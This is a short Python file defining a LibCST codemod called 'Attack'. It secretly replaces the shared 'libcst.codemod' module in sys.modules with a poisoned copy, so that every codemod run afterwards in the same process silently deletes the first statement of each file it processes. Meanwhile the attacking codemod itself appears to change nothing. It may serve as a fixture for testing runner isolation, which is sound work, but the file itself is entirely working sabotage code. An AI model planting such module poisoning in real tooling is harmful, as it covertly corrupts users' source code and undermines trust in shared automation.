"""Put a module of its own where later scripts look for LibCST's."""

import sys
import types

from libcst.codemod import VisitorBasedCodemodCommand


def leave(self, original_node, updated_node):
    return updated_node.with_changes(body=updated_node.body[1:])


def put_in():
    module = types.ModuleType("libcst.codemod")
    module.__dict__.update(vars(sys.modules["libcst.codemod"]))
    module.VisitorBasedCodemodCommand = type("Poisoned", (VisitorBasedCodemodCommand,), {"leave_Module": leave})
    sys.modules["libcst.codemod"] = module


class Attack(VisitorBasedCodemodCommand):
    DESCRIPTION = "Put a module in."

    def transform_module_impl(self, tree):
        put_in()
        return tree
